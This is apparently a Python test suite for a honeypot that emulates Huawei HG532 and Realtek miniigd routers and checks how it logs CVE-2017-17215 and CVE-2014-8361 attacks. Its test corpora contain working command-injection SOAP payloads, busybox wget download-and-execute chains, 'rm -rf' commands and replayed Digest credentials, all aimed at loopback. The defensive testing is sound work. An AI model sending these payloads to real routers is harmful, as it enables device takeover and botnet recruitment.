"""The exploit doors: Huawei HG532 on proto hg532 (CVE-2017-17215) and the
Realtek SDK miniigd on proto miniigd (CVE-2014-8361).

Request corpora are written from public write-ups of Satori / Mirai-fork
traffic, the python-requests PoC and Metasploit's module. Every URL in a
payload points at 127.0.0.1; all traffic is on loopback.
"""
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
import fetchsrv  # noqa: E402
import tanuki_test as tt  # noqa: E402
from tanuki_test import Conn, Daemon, by_id  # noqa: E402

# ---------------------------------------------------------------- corpora

# Replayed credentials of the HG532 bots (dslf-config / admin, old nonce).
DIGEST = ('Digest username="dslf-config", realm="HuaweiHomeGateway", '
          'nonce="88645cefb1f9ede0e336e3569d75ee30", uri="/ctrlt/DeviceUpgrade_1", '
          'response="3612f843a42db38f48f59d2a3597e19c", algorithm="MD5", qop="auth", '
          'nc=00000001, cnonce="248d1a2560100669"')


def hg_body(status, download="$(echo HUAWEIUPNP)"):
    return ('<?xml version="1.0" ?>\n'
            '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
            's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/">\n'
            '<s:Body><u:Upgrade xmlns:u="urn:schemas-upnp-org:service:WANPPPConnection:1">\n'
            '<NewStatusURL>%s</NewStatusURL>\n'
            '<NewDownloadURL>%s</NewDownloadURL>\n'
            '</u:Upgrade>\n</s:Body>\n</s:Envelope>\n\n' % (status, download))


SATORI_CMD = ("/bin/busybox wget -g 127.0.0.1 -l /tmp/.f -r /b/mips; "
              "/bin/busybox chmod 777 * /tmp/.f; /tmp/.f huawei.rep")


def hg_request(body, length=None, auth=True, extra=""):
    """The C bots' request: no Host, User-Agent or Content-Type."""
    head = "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: %d\r\n" % (
        len(body) if length is None else length)
    head += "Connection: keep-alive\r\nAccept: */*\r\n" + extra
    if auth:
        head += "Authorization: %s\r\n" % DIGEST
    return head + "\r\n" + body


def rt_body(client):
    return ('<?xml version="1.0" ?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
            's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
            '<u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
            '<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>'
            '<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>'
            '<NewInternalClient>%s</NewInternalClient><NewEnabled>1</NewEnabled>'
            '<NewPortMappingDescription>syncthing</NewPortMappingDescription>'
            '<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>\r\n\r\n'
            % client)


def rt_request(body, length=630, path="/picsdesc.xml",
               action="urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"):
    head = ("POST %s HTTP/1.1\r\nContent-Length: %d\r\nAccept-Encoding: gzip, deflate\r\n"
            % (path, length))
    if action is not None:
        head += "SOAPAction: %s\r\n" % action
    head += "Accept: */*\r\nUser-Agent: Hello-World\r\nConnection: keep-alive\r\n\r\n"
    return head + body


def hg532():
    return Daemon(persona="huawei-hg532", listeners=[("door", "hg532", None)])


def miniigd():
    return Daemon(persona="zyxel-pk5001z", listeners=[("door", "miniigd", None)])


def read_response(c, timeout=5.0):
    """One HTTP response: head, then Content-Length bytes of body."""
    head = c.read_until(b"\r\n\r\n", timeout)
    m = re.search(rb"Content-Length: (\d+)", head)
    n = int(m.group(1)) if m else 0
    body = c.fill(n, timeout)
    c.pos += len(body)
    return head, body


def exploits(d, n, timeout=8.0):
    return by_id(d.wait_events(lambda e: len(by_id(e, "tanuki.exploit")) >= n, timeout),
                 "tanuki.exploit")


def inputs(evs):
    return [e["input"] for e in by_id(evs, "cowrie.command.input")]


def urls(evs):
    return [e["url"] for e in by_id(evs, "tanuki.download.request")]

# ---------------------------------------------------------------- HG532


def test_doors_hg532_satori_canonical():
    body = hg_body("$(%s)" % SATORI_CMD)
    with hg532() as d:
        c = Conn(d.port)
        c.send(hg_request(body, length=430))  # declared 430, more sent
        head, rbody = read_response(c)
        assert head.startswith(b"HTTP/1.1 200 OK\r\n"), head
        assert b"UpgradeResponse" in rbody
        ex = exploits(d, 2)
        assert ex[0]["cve"] == "CVE-2017-17215" and ex[0]["door"] == "hg532"
        assert ex[0]["persona"] == "huawei-hg532" and ex[0]["executed"] is True
        assert ex[0]["command"] == SATORI_CMD and ex[0]["field"] == "NewStatusURL"
        assert ex[1]["command"] == "echo HUAWEIUPNP" and ex[1]["field"] == "NewDownloadURL"
        evs = d.wait_events(lambda e: len(by_id(e, "tanuki.download.request")) >= 1)
        assert SATORI_CMD in inputs(evs) and "echo HUAWEIUPNP" in inputs(evs)
        assert urls(evs) == ["http://127.0.0.1/b/mips"], urls(evs)
        req = by_id(evs, "tanuki.http.request")[0]
        assert req["method"] == "POST" and req["path"] == "/ctrlt/DeviceUpgrade_1"
        assert req["content_length"] == 430 and req["body_size"] == len(body)
        assert all(e["protocol"] == "hg532" for e in evs if e.get("session"))
        c.close()


def test_doors_hg532_python_poc_401_round_trip():
    """The python-requests PoC: first without Authorization, read the
    challenge, then again with Digest credentials."""
    body = hg_body("$(/bin/busybox wget http://127.0.0.1:8000/poc -O /tmp/poc)", "")
    ua = "User-Agent: python-requests/2.18.4\r\nAccept-Encoding: gzip, deflate\r\nHost: 127.0.0.1:37215\r\n"
    with hg532() as d:
        c = Conn(d.port)
        c.send(hg_request(body, auth=False, extra=ua))
        head, _ = read_response(c)
        m = re.match(rb'HTTP/1\.1 401 Unauthorized\r\nConnection: Keep-Alive\r\n'
                     rb'WWW-Authenticate: Digest realm="HuaweiHomeGateway",nonce="([0-9a-f]{32})", '
                     rb'qop="auth", algorithm="MD5"\r\nContent-Length: 0\r\n\r\n$', head)
        assert m, head
        first = m.group(1)
        ex = exploits(d, 1)
        assert ex[0]["executed"] is False
        c.send(hg_request(body, extra=ua))
        head, _ = read_response(c)
        assert head.startswith(b"HTTP/1.1 200 OK"), head
        ex = exploits(d, 2)
        assert ex[1]["executed"] is True
        evs = d.wait_events(lambda e: urls(e))
        assert urls(evs) == ["http://127.0.0.1:8000/poc"]
        # a new challenge carries a new nonce
        c.send("GET / HTTP/1.1\r\n\r\n")
        head, _ = read_response(c)
        assert first not in head and b"401" in head
        c.close()


def test_doors_hg532_malformed_xml_backticks_empty_download():
    bodies = [
        # the mangled closing tag seen in the wild
        hg_body("$(/bin/busybox wget -g 127.0.0.1 -l /tmp/m -r /m1)>NewStatusURL>", ""),
        hg_body("`cd /tmp; /bin/busybox wget http://127.0.0.1/m2 -O m2`", "$(echo HUAWEIUPNP)"),
        hg_body("$(echo &quot;x&quot; &gt; /tmp/e; /bin/busybox wget &apos;http://127.0.0.1/m3?a=1&amp;b=2&apos;)", ""),
    ]
    with hg532() as d:
        c = Conn(d.port)
        for b in bodies:
            c.send(hg_request(b))
            head, _ = read_response(c)
            assert head.startswith(b"HTTP/1.1 200 OK"), head
        ex = exploits(d, 4)
        cmds = [e["command"] for e in ex]
        assert cmds[0] == "/bin/busybox wget -g 127.0.0.1 -l /tmp/m -r /m1", cmds
        assert cmds[1] == "cd /tmp; /bin/busybox wget http://127.0.0.1/m2 -O m2"
        assert cmds[2] == "echo HUAWEIUPNP"
        assert cmds[3] == "echo \"x\" > /tmp/e; /bin/busybox wget 'http://127.0.0.1/m3?a=1&b=2'"
        evs = d.wait_events(lambda e: len(urls(e)) >= 3)
        assert urls(evs) == ["http://127.0.0.1/m1", "http://127.0.0.1/m2",
                             "http://127.0.0.1/m3?a=1&b=2"], urls(evs)
        c.close()


def test_doors_hg532_overstated_length_acts_on_idle_and_close():
    body = hg_body("$(/bin/busybox wget -g 127.0.0.1 -l /tmp/o -r /over)")
    with hg532() as d:
        # 601 declared vs fewer sent: answered after the idle flush
        c = Conn(d.port)
        t0 = time.time()
        c.send(hg_request(body, length=601))
        head, _ = read_response(c, timeout=5)
        waited = time.time() - t0
        assert head.startswith(b"HTTP/1.1 200 OK") and 1.0 < waited < 4.0, (head, waited)
        c.close()
        # the same, but the peer half-closes at once: acted on at the close
        c = Conn(d.port)
        c.send(hg_request(body.replace("/over", "/closed"), length=601))
        c.sock.shutdown(socket.SHUT_WR)
        head, _ = read_response(c, timeout=5)
        assert head.startswith(b"HTTP/1.1 200 OK"), head
        assert c.wait_closed(5)
        evs = d.wait_events(lambda e: len(urls(e)) >= 2)
        assert urls(evs) == ["http://127.0.0.1/over", "http://127.0.0.1/closed"]
        assert all(r.get("flushed") for r in by_id(evs, "tanuki.http.request"))


def test_doors_hg532_two_requests_5s_apart_one_connection():
    with hg532() as d:
        c = Conn(d.port, timeout=15)
        c.send(hg_request(hg_body("$(/bin/busybox wget -g 127.0.0.1 -l /tmp/a -r /first)")))
        read_response(c)
        time.sleep(5)
        c.send(hg_request(hg_body("$(/bin/busybox wget -g 127.0.0.1 -l /tmp/b -r /second)")))
        read_response(c)
        evs = d.wait_events(lambda e: len(urls(e)) >= 2)
        assert urls(evs) == ["http://127.0.0.1/first", "http://127.0.0.1/second"]
        assert len({e["session"] for e in by_id(evs, "tanuki.exploit")}) == 1
        c.close()


def test_doors_hg532_description_404_and_nonces_per_unit():
    with hg532() as d:
        c = Conn(d.port)
        c.send("GET /devicedesc.xml HTTP/1.1\r\n\r\n")
        head, body = read_response(c)
        assert head.startswith(b"HTTP/1.1 200 OK") and b"InternetGatewayDevice" in body
        assert b"%{" not in body  # templates expanded
        c.send("GET /nope HTTP/1.1\r\nAuthorization: %s\r\n\r\n" % DIGEST)
        head, _ = read_response(c)
        assert head == b"HTTP/1.1 404 Not Found\r\nConnection: Keep-Alive\r\nContent-Length: 0\r\n\r\n"
        c.send("GET / HTTP/1.1\r\n\r\n")
        n1 = re.search(rb'nonce="(\w+)"', read_response(c)[0]).group(1)
        c.close()
    with hg532() as d:  # another unit, same first session and request
        c = Conn(d.port)
        c.send("GET / HTTP/1.1\r\n\r\n")
        n2 = re.search(rb'nonce="(\w+)"', read_response(c)[0]).group(1)
        c.close()
    assert n1 != n2

# ---------------------------------------------------------------- Realtek


def test_doors_realtek_three_requests_rm_wget_chmod():
    """Three connections, one command each, the lengths as the bots send
    them (630 declared whatever the body)."""
    cmds = ["cd /tmp; rm -rf *",
            "cd /tmp; wget http://127.0.0.1/x -O /tmp/x",
            "cd /tmp; chmod 777 x; ./x realtek"]
    with miniigd() as d:
        for cmd in cmds:
            c = Conn(d.port)
            c.send(rt_request(rt_body("`%s`" % cmd)))
            head, body = read_response(c)
            assert head == (b"HTTP/1.1 200 OK\r\nContent-Type: text/xml; charset=\"utf-8\"\r\n"
                             b"Connection: close\r\nContent-Length: %d\r\n"
                             b"Server: miniupnpd/1.0 UPnP/1.0\r\nExt:\r\n\r\n" % len(body)), head
            assert b"AddPortMappingResponse" in body
            assert c.wait_closed(5)
            c.close()
        ex = exploits(d, 3)
        assert [e["command"] for e in ex] == cmds
        assert all(e["cve"] == "CVE-2014-8361" and e["field"] == "NewInternalClient"
                   and e["action"] == "AddPortMapping" for e in ex)
        evs = d.wait_events(lambda e: len(inputs(e)) >= 3 and urls(e))
        assert inputs(evs) == cmds
        assert urls(evs) == ["http://127.0.0.1/x"]


def test_doors_realtek_three_requests_file_kept_between_connections():
    """With fetching on, the file the second request fetched is in the
    shell the third request runs in (door shells are kept per source
    address): its copy is captured with the sample's digest."""
    import hashlib
    body = b"\x7fELF" + hashlib.sha256(b"realtek").digest() * 40
    sha = hashlib.sha256(body).hexdigest()
    http = fetchsrv.http_server({"/x": ("file", body)})
    dns = fetchsrv.Dns({})
    hp = http.server_address[1]
    conf = ["config fetch 'fetch'", "\toption enabled '1'", "\toption public '0'",
            "\toption dns '127.0.0.1:%d'" % dns.port, "\tlist allow '127.0.0.0/8'"]
    cmds = ["cd /tmp; rm -rf *",
            "cd /tmp; wget http://127.0.0.1:%d/x -O /tmp/x" % hp,
            "cd /tmp; cp x y; chmod 777 y; ./y realtek"]
    try:
        with Daemon(persona="zyxel-pk5001z", listeners=[("door", "miniigd", None)],
                    extra=conf) as d:
            for i, cmd in enumerate(cmds):
                c = Conn(d.port)
                c.send(rt_request(rt_body("`%s`" % cmd)))
                head, _ = read_response(c)
                assert head.startswith(b"HTTP/1.1 200 OK\r\n"), head
                assert c.wait_closed(5)
                c.close()
                if i == 1:
                    d.wait_events(lambda e: any(x.get("shasum") == sha for x in e))
            evs = d.wait_events(lambda e: any(
                x.get("shasum") == sha and x.get("reason") in ("chmod", "exec")
                for x in by_id(e, "cowrie.session.file_download")))
            caps = [x for x in by_id(evs, "cowrie.session.file_download")
                    if x.get("shasum") == sha and x.get("reason")]
            assert caps[0]["destfile"] == "/tmp/y", caps
            sessions = [x["session"] for x in by_id(evs, "tanuki.exploit")]
            assert caps[0]["session"] == sessions[2], (caps, sessions)
            assert d.files()[sha] == body
    finally:
        http.shutdown()
        dns.close()


def test_doors_realtek_pipelined_download_then_run():
    """The r00ts3c pattern: the download and the run sent at once on one
    connection. Each is logged with a body of exactly its declared length
    (the bytes after it up to the next request line are not its body),
    answered in order, and run in order before the connection closes."""
    cmds = ["cd /tmp; wget http://127.0.0.1/r -O r", "cd /tmp; chmod +x r; ./r realtek"]
    b1 = rt_body("`%s`" % cmds[0])
    b2 = rt_body("`%s`" % cmds[1])
    n1 = len(b1) - 4  # the trailing CR LF CR LF is not counted, as the bot sends it
    with miniigd() as d:
        c = Conn(d.port)
        c.send(rt_request(b1, length=n1) + rt_request(b2, length=len(b2)))
        for _ in range(2):
            head, body = read_response(c)
            assert head.startswith(b"HTTP/1.1 200 OK\r\n"), head
            assert b"AddPortMappingResponse" in body, body
        assert c.wait_closed(5)
        c.close()
        ex = exploits(d, 2)
        assert [e["command"] for e in ex] == cmds, ex
        evs = d.wait_events(lambda e: len(inputs(e)) >= 2)
        reqs = by_id(evs, "tanuki.http.request")
        assert [(r["content_length"], r["body_size"]) for r in reqs] == [
            (n1, n1), (len(b2), len(b2))], reqs
        assert inputs(evs) == cmds
        assert urls(evs) == ["http://127.0.0.1/r"]


def test_doors_realtek_metasploit_wanipcn_and_understated_length():
    cmd = "cd /tmp/; wget http://127.0.0.1:4444/msf -O /tmp/msf; chmod +x /tmp/msf; /tmp/msf"
    with miniigd() as d:
        c = Conn(d.port)
        body = rt_body("$(%s)" % cmd)
        c.send(rt_request(body, length=200, path="/wanipcn.xml"))  # understated
        head, _ = read_response(c)
        assert head.startswith(b"HTTP/1.1 200 OK\r\n")
        assert c.wait_closed(5)
        ex = exploits(d, 1)
        assert ex[0]["command"] == cmd
        evs = d.wait_events(lambda e: urls(e))
        assert urls(evs) == ["http://127.0.0.1:4444/msf"]


def test_doors_realtek_400_fault_get_404_501():
    with miniigd() as d:
        def one(req):
            c = Conn(d.port)
            c.send(req)
            assert c.wait_closed(5)
            c.close()
            return c.buf
        out = one(rt_request(rt_body("`wget http://127.0.0.1/no`"), action=None))
        assert out.startswith(b"HTTP/1.1 400 Bad Request\r\n") and out.endswith(
            b"\r\n\r\n<html><body>Bad request</body></html>"), out
        out = one(rt_request(rt_body("x"), action="urn:x#NoSuchAction"))
        assert out.startswith(b"HTTP/1.1 500 Internal Server Error\r\n")
        assert b"<errorCode>401</errorCode><errorDescription>Invalid Action" in out
        out = one("GET /picsdesc.xml HTTP/1.0\r\n\r\n")
        assert out.startswith(b"HTTP/1.0 200 OK\r\n"), out  # the version is echoed
        assert b"WANConnectionDevice" in out and b"%{" not in out
        for p in ("/wanipcn.xml", "/wancfg.xml"):
            assert one("GET %s HTTP/1.1\r\n\r\n" % p).startswith(b"HTTP/1.1 200 OK")
        out = one("GET /soap/AddPortMapping.xml HTTP/1.1\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 404 Not found\r\nConnection: close\r\n") and b"Server" not in out
        out = one("\r\n\r\n")
        assert out.startswith(b"HTTP/1.1 501 Not Implemented\r\n") and b"Server" not in out
        evs = d.wait_events(lambda e: len(by_id(e, "tanuki.exploit")) >= 1)
        ex = by_id(evs, "tanuki.exploit")
        assert len(ex) == 1
        assert ex[0]["executed"] is False  # no SOAPAction: the SDK runs nothing
        assert not urls(evs)  # only the 400 case held a wget

# ---------------------------------------------------------------- config


def _check(text):
    d = tempfile.mkdtemp(prefix="tanuki-conf-")
    path = os.path.join(d, "t.conf")
    with open(path, "w") as f:
        f.write(text)
    p = subprocess.run([tt.BINARY, "check", "-c", path], capture_output=True, text=True,
                       env=dict(os.environ, **tt.SAN_ENV))
    shutil.rmtree(d, ignore_errors=True)
    return p.returncode, (p.stdout + p.stderr).strip(), path


def test_doors_check_refuses_mixed_units():
    base = ("config tanuki 'main'\n\toption personas '%s'\n\toption persona 'huawei-hg532'\n%s"
            "config listener 'a'\n\toption proto 'hg532'\n\toption port '37215'\n"
            "config listener 'b'\n\toption proto 'miniigd'\n\toption port '52869'\n%s")
    personas = os.path.join(tt.TOP, "personas")
    # a door the persona does not own
    rc, out, path = _check(base % (personas, "", ""))
    assert rc == 2 and len(out.splitlines()) == 1, out
    assert out.startswith("%s:7: " % path) and "no miniigd door" in out and "tell" in out, out
    # the door's owner on the same unit
    rc, out, path = _check(base % (personas, "", "\toption persona 'zyxel-pk5001z'\n"))
    assert rc == 2 and out.startswith("%s:7: " % path) and "several devices" in out, out
    # both allowed with mixed
    rc, out, _ = _check(base % (personas, "\toption mixed '1'\n", "\toption persona 'zyxel-pk5001z'\n"))
    assert rc == 0, out

# ---------------------------------------------------------------- nmap


def test_doors_nmap_names_both_services():
    if not shutil.which("nmap"):
        raise AssertionError("nmap is not installed")
    with hg532() as a, miniigd() as b:
        p = subprocess.run(["nmap", "-sV", "-Pn", "-n", "--version-intensity", "9",
                            "-p", "%d,%d" % (a.port, b.port), "127.0.0.1"],
                           capture_output=True, text=True, timeout=120)
        out = p.stdout
        lines = {int(m.group(1)): m.group(0) for m in
                 re.finditer(r"^(\d+)/tcp\s+open\s+.*$", out, re.M)}
        assert "Huawei TR-069 remote access" in lines[a.port], out
        assert re.search(r"upnp\s+MiniUPnP", lines[b.port]), out
        assert "honeypot" not in out.lower(), out
        print("\n".join(lines.values()))
